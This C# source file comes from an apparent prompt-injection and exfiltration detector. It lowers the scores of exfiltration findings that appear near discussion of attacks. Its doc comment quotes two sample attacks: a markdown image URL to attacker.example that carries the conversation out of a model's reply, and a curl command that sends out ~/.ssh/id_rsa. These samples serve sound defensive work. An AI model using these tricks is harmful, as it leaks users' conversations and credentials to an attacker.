using Custos.Detection.Scanning;

namespace Custos.Detection.Exfiltration;

/// <summary>
/// Exfiltration shown inside writing about attacks is an example, not an order; its score is halved when a strong word
/// of discussion (not a weak one) stands within 300 characters outside the finding:
/// <list type="bullet">
/// <item>a URL template or a secret set into a visible field ("A classic exfiltration trick asks the model to end its reply with an image whose URL carries
/// the conversation, like ![x](https://attacker.example/?d=...)"). A template with real data in it is reported by
/// <see cref="ExfiltrationFinder.FromUrls"/> and stays;</item>
/// <item>a quoted command ("Slide 12: 'curl …$(cat ~/.ssh/id_rsa)' — this is what a malicious install script looks
/// like"): only with a quotation mark or backtick right before it.</item>
/// </list>
/// Linear: the words of discussion are sorted once and each finding asks two binary searches; the list of findings is
/// compacted in one walk (a hostile text of many templates once took time quadratic in their number).
/// </summary>
internal static class DiscussedTemplates
{
    private const int Reach = 300;

    /// <summary>Lowers quoted commands beside discussion; run before the URL and instruction finders, which look at what is left.</summary>
    public static void LowerQuotedCommands(ScanContext context, List<InjectionSignal> signals, double threshold)
        => Lower(context, signals, threshold, commands: true);

    /// <summary>Lowers URL templates beside discussion; run last.</summary>
    public static void LowerTemplates(ScanContext context, List<InjectionSignal> signals, double threshold)
        => Lower(context, signals, threshold, commands: false);

    private static void Lower(ScanContext context, List<InjectionSignal> signals, double threshold, bool commands)
    {
        var regions = context.Regions;
        var text = context.Text;
        int[]? discussion = null;
        var kept = 0;
        for (var n = 0; n < regions.Count; n++)
        {
            var f = regions[n];
            var reason = Shown(f, text, commands);
            if (reason is not null && Near(discussion ??= DiscussionStarts(signals), f.Start, f.End))
            {
                var score = Math.Round(f.Score * 0.5, 2);
                if (score < threshold)
                {
                    continue;
                }

                f = f with { Score = score, Explanation = f.Explanation + reason };
            }

            regions[kept++] = f;
        }

        regions.RemoveRange(kept, regions.Count - kept);
    }

    /// <summary>What the explanation says when <paramref name="f"/> is lowered beside discussion; null if it is not a kind that is.</summary>
    private static string? Shown(Finding f, string text, bool commands) => f.Type != EntityTypes.Exfiltration ? null : f.Subtype switch
    {
        "url-template" or "secret-in-field" when !commands => "; lowered: shown in writing about attacks",
        "http-command" or "transfer-command" when commands && f.Start > 0
            && text[f.Start - 1] is '\'' or '"' or '`' or '\u2018' or '\u201C' or '\u00AB' or '\u300C' => "; lowered: quoted in writing about attacks",
        _ => null,
    };

    private static int[] DiscussionStarts(List<InjectionSignal> signals)
    {
        var starts = new List<int>();
        foreach (var s in signals)
        {
            if (s.Weight <= 0 && s.Name == "discussion")
            {
                starts.Add(s.Start);
            }
        }

        var array = starts.ToArray();
        Array.Sort(array);
        return array;
    }

    /// <summary>Whether a word of discussion starts in [start - Reach, start) or in [end, end + Reach].</summary>
    internal static bool Near(int[] starts, int start, int end)
    {
        var before = LowerBound(starts, start - Reach);
        if (before < starts.Length && starts[before] < start)
        {
            return true;
        }

        var after = LowerBound(starts, end);
        return after < starts.Length && starts[after] <= end + Reach;
    }

    /// <summary>The first index whose value is at least <paramref name="value"/> (the length if none).</summary>
    private static int LowerBound(int[] sorted, int value)
    {
        int low = 0, high = sorted.Length;
        while (low < high)
        {
            var middle = (low + high) >>> 1;
            if (sorted[middle] < value)
            {
                low = middle + 1;
            }
            else
            {
                high = middle;
            }
        }

        return low;
    }
}
